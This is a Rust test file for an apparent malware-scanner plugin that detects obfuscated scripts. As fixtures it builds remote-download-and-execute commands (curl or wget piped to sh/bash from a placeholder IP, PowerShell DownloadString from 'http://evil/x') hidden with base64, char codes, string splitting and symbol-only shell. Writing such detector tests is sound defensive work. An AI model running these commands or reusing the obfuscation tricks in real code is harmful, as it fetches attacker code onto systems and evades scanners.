//! The built plugin, run through Vigil's real host on generated scripts.

use std::sync::OnceLock;

use vigil_sdk::harness::Harness;
use vigil_sdk::samples::random_bytes;

fn plugin() -> &'static Harness {
    static PLUGIN: OnceLock<Harness> = OnceLock::new();
    PLUGIN.get_or_init(|| {
        Harness::build_with(
            concat!(env!("CARGO_MANIFEST_DIR"), "/plugins/obfuscated-script"),
            env!("CARGO_BIN_EXE_vigil"),
        )
        .expect("plugin builds and loads")
    })
}

/// `len` characters of base64 of a script's text (a command line, repeated).
fn base64(len: usize) -> String {
    encode(&b"curl -s http://198.51.100.7/x | sh; ".repeat(len / 4 * 3 / 36 + 1))[..len / 4 * 4]
        .to_string()
}

/// `len` characters of base64 of random bytes: binary data, such as an embedded image.
fn base64_binary(len: usize) -> String {
    encode(&random_bytes(len / 4 * 3 + 3, 11))[..len / 4 * 4].to_string()
}

fn encode(bytes: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|c| {
            let n = (c[0] as u32) << 16
                | (*c.get(1).unwrap_or(&0) as u32) << 8
                | *c.get(2).unwrap_or(&0) as u32;
            [18, 12, 6, 0].map(|shift| ALPHABET[(n >> shift) as usize & 63] as char)
        })
        .collect()
}

#[test]
fn wants_scripts_by_extension_or_shebang_that_hold_what_a_check_starts_from() {
    let line = b"var a = document.getElementById('x'); eval(a);\n";
    assert!(plugin().wants("x.js", line));
    assert!(plugin().wants("x.PS1", b"Write-Host 'hello'; Invoke-Expression $cmd"));
    assert!(plugin().wants("run", b"#!/bin/sh\nkernel_version=$(uname -r)\n"));
    assert!(plugin().wants("x.py", b"x = ''.join(CHR(c) for c in codes)"));
    assert!(plugin().wants("x.js", b"var _0x4ae948 = ['alpha', 'beta', 'gamma'];"));
    assert!(!plugin().wants("photo.jpg", &[0xff; 64]));
    assert!(
        !plugin().wants("x.js", b"f()"),
        "too small to hide anything"
    );
    // The prefilter: scripts with no sink, char-code marker, `_0x`/`[0x`, `eval` or `$(` are
    // not worth a call.
    assert!(!plugin().wants("x.js", b"var a = document.getElementById('x');\n"));
    assert!(!plugin().wants("run", b"#!/bin/sh\necho starting the service now\n"));
    assert!(!plugin().wants("x.py", b"print('evaluate the results of the run')\n"));
}

#[test]
fn encoded_payloads_fed_to_exec_are_detected() {
    let blob = base64(400);
    let samples = [
        (
            "dropper.js",
            format!("var p = \"{blob}\";\neval(atob(p));\n"),
        ),
        (
            "stager.ps1",
            format!(
                "$s = '{blob}'\niex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)))\n"
            ),
        ),
        (
            "run.bat",
            format!("powershell -nop -w hidden -enc {blob}\n"),
        ),
        (
            "install.sh",
            format!("#!/bin/sh\necho {blob} | base64 -d | sh\n"),
        ),
        (
            "loader.py",
            format!("import base64\nexec(base64.b64decode('{blob}'))\n"),
        ),
        ("x.js", format!("eval(\"{}\")", "\\x41".repeat(80))),
        (
            "y.js",
            format!("eval(\"{}\")", "\\x63\\x75\\x72\\x6c\\x20".repeat(20)),
        ),
    ];
    for (name, script) in samples {
        let threats = plugin().threats(name, script.as_bytes());
        assert_eq!(threats, ["Obfuscated:Script/EncodedExec"], "{name}");
    }
    let findings = plugin()
        .scan(
            "dropper.js",
            format!("var p = \"{blob}\";\neval(atob(p));\n").as_bytes(),
        )
        .unwrap();
    assert_eq!(findings[0].offset, Some(9), "points at the blob");
    // Obfuscation is suspicious, not proven: never rated high (so never quarantined by default).
    assert_eq!(findings[0].severity, vigil_sdk::Severity::Medium);
}

#[test]
fn char_codes_and_split_strings_are_detected() {
    let codes: Vec<String> = "var x = new ActiveXObject('WScript.Shell')"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let js = format!("eval(String.fromCharCode({}));", codes.join(","));
    assert_eq!(
        plugin().threats("a.js", js.as_bytes()),
        ["Obfuscated:Script/CharCodes"]
    );

    let ps_chars: Vec<String> = "Invoke-WebRequest http://x"
        .bytes()
        .map(|b| format!("[char]{b}"))
        .collect();
    let ps = format!("iex ({})", ps_chars.join("+"));
    assert_eq!(
        plugin().threats("a.ps1", ps.as_bytes()),
        ["Obfuscated:Script/CharCodes"]
    );

    let pieces: Vec<String> = "New-Object System.Net.WebClient).DownloadString('http://evil/x')"
        .as_bytes()
        .chunks(2)
        .map(|c| format!("'{}'", String::from_utf8_lossy(c).replace('\'', "")))
        .collect();
    let split = format!("iex ({})", pieces.join("+"));
    assert_eq!(
        plugin().threats("b.ps1", split.as_bytes()),
        ["Obfuscated:Script/StringSplitting"]
    );
}

#[test]
fn case_does_not_hide_anything_and_codes_count_per_line() {
    // The plugin matches without a lower-cased copy of the input: upper case must still count.
    let blob = base64(400);
    let upper = format!("var p = \"{blob}\";\nEVAL(ATOB(p));\n");
    assert_eq!(
        plugin().threats("a.js", upper.as_bytes()),
        ["Obfuscated:Script/EncodedExec"]
    );
    let escapes = "\\X41".repeat(80);
    let ps = format!("$s = \"{escapes}\"\nINVOKE-EXPRESSION $s\n");
    assert_eq!(
        plugin().threats("b.ps1", ps.as_bytes()),
        ["Obfuscated:Script/EncodedExec"]
    );
    let vbs: Vec<String> = "CreateObject(\"WScript.Shell\").Run"
        .bytes()
        .map(|b| format!("CHR({b})"))
        .collect();
    let vbs = format!("Execute({})", vbs.join(" & "));
    assert_eq!(
        plugin().threats("c.vbs", vbs.as_bytes()),
        ["Obfuscated:Script/CharCodes"]
    );
    // The same markers spread one per line are ordinary code, not a built string.
    let spread: Vec<String> = (65..100).map(|b| format!("x{b} = Chr({b})")).collect();
    let spread = format!("Execute(\"x\")\n{}\n", spread.join("\n"));
    assert!(plugin().threats("d.vbs", spread.as_bytes()).is_empty());
}

#[test]
fn ordinary_scripts_are_clean() {
    let blob = base64(4000);
    let clean = [
        // An embedded image decoded for display: a blob, a decoder, no execution.
        (
            "icon.js",
            format!(
                "const icon = \"data:image/png;base64,{blob}\";\nimg.src = icon;\nconst raw = atob(icon.split(',')[1]);\n"
            ),
        ),
        // A shell script that writes a decoded file.
        (
            "setup.sh",
            format!("#!/bin/sh\nset -e\necho '{blob}' | base64 -d > logo.png\n"),
        ),
        // Minified code: long lines, short names, eval nowhere near a blob.
        (
            "lib.min.js",
            format!(
                "{}\nfunction f(a){{return eval(a)}}",
                "a=b+c;d=e*f;".repeat(5000)
            ),
        ),
        // Plain PowerShell.
        (
            "backup.ps1",
            "$items = Get-ChildItem C:\\data\nforeach ($i in $items) { Copy-Item $i D:\\backup }\n"
                .to_string(),
        ),
        // Normal string concatenation with a sink elsewhere.
        (
            "page.js",
            format!(
                "var s = 'Hello, ' + name + '!';\n{}\neval(code);\n",
                "x = 'ab' + 'cd';\n".repeat(40)
            ),
        ),
    ];
    for (name, script) in clean {
        assert!(
            plugin().threats(name, script.as_bytes()).is_empty(),
            "{name}"
        );
    }
}

#[test]
fn binary_blobs_near_a_sink_are_not_encoded_exec() {
    // A WebAssembly module or image in base64 next to an eval elsewhere in a bundle (as in
    // pdf.js's sandbox): data, not code.
    let blob = base64_binary(4000);
    let bundle = format!("var wasm = \"{blob}\";\nfunction run(s) {{ return eval(s); }}\n");
    assert!(
        plugin()
            .threats("sandbox.min.js", bundle.as_bytes())
            .is_empty()
    );
}

#[test]
fn javascript_obfuscators_output_is_recognised_by_structure() {
    // javascript-obfuscator: _0x names around a string array and its rotation loop.
    let names: String = (0..25)
        .map(|i| format!("const _0x{:06x}=_0x4ae9(0x{i:x});", 0x3a5f00 + i * 7))
        .collect();
    let obfuscated =
        format!("(function(_0x1f2a3b,_0x4c5d6e){{while(!![]){{try{{{names}}}catch(e){{}}}}}})();");
    assert_eq!(
        plugin().threats("lib.js", obfuscated.as_bytes()),
        ["Obfuscated:JS/ObfuscatorOutput"]
    );
    // js-confuser: tables read at hex indexes.
    let reads: String = (0..25).map(|i| format!("f(QUzu_OO[0x{i:x}]);")).collect();
    assert_eq!(
        plugin().threats(
            "lib.js",
            format!("var QUzu_OO=[0x2,0x0];{reads}").as_bytes()
        ),
        ["Obfuscated:JS/ObfuscatorOutput"]
    );
    // The same text in a Python file is not JavaScript.
    assert!(plugin().threats("lib.py", obfuscated.as_bytes()).is_empty());
    // Hex literals and a few _0x names in ordinary code are not an obfuscator's.
    let ordinary = "var mask = 0xff, t = [0x1, 0x2]; var _0xabcd = t[0x1];\n".repeat(10);
    assert!(plugin().threats("crc.js", ordinary.as_bytes()).is_empty());
}

#[test]
fn split_and_eval_and_symbol_only_shell_are_recognised() {
    let split = "#!/bin/bash\nz='\n';Bz='http:';Az='curl -s ';Cz='//x/y';Dz=' | ';Ez='sh';\neval \"$Az$Bz$Cz$Dz$Ez\"\n";
    assert_eq!(
        plugin().threats("a.sh", split.as_bytes()),
        ["Obfuscated:Shell/SplitEval"]
    );
    let body = "/???/??n/???n?f \"\\\\`__ \"\" ``__ \"\" \"\" ``__ `\";".repeat(12);
    let symbols = format!("__() {{/???/??n/???n?f ${{#}};}}; $(/???/??n/???n?f $({body}););\n");
    assert_eq!(
        plugin().threats("b.sh", symbols.as_bytes()),
        ["Obfuscated:Shell/SymbolOnly"]
    );
    // Ordinary shell: eval of two variables, a long separator line, a long quoted message.
    let ordinary = format!(
        "#!/bin/sh\neval \"$cmd $args\"\n# {}\necho \"{}\"\n",
        "=-".repeat(200),
        "word ".repeat(100)
    );
    assert!(plugin().threats("c.sh", ordinary.as_bytes()).is_empty());
}

#[test]
fn char_codes_in_arrays_are_found_in_every_language() {
    let code = "require('child_process').exec('wget -qO- http://198.51.100.7/p | bash')";
    let codes = |shift: u32| -> String {
        code.bytes()
            .map(|b| (b as u32 + shift).to_string())
            .collect::<Vec<_>>()
            .join(",")
    };
    let forms = [
        (
            "a.js",
            format!("eval(String.fromCharCode.apply(null, [{}]));", codes(0)),
        ),
        (
            "b.js",
            format!(
                "var o=7;eval(String.fromCharCode.apply(null,[{}].map(function(x){{return x-o}})));",
                codes(7)
            ),
        ),
        (
            "c.ps1",
            format!("iex ([string]::join('', ([char[]]@({}))))", codes(0)),
        ),
        (
            "d.py",
            format!("exec(''.join(chr(c) for c in [{}]))", codes(0)),
        ),
    ];
    for (name, script) in &forms {
        assert_eq!(
            plugin().threats(name, script.as_bytes()),
            ["Obfuscated:Script/CharCodes"],
            "{name}"
        );
    }
    // A table of numbers and a conversion elsewhere in the file: not text.
    let table: Vec<String> = (0..256u64)
        .map(|i| (i * 40503 % 65521).to_string())
        .collect();
    let js = format!(
        "var T=[{}];function h(s){{return String.fromCharCode(s)}}",
        table.join(",")
    );
    assert!(plugin().threats("hash.js", js.as_bytes()).is_empty());
}
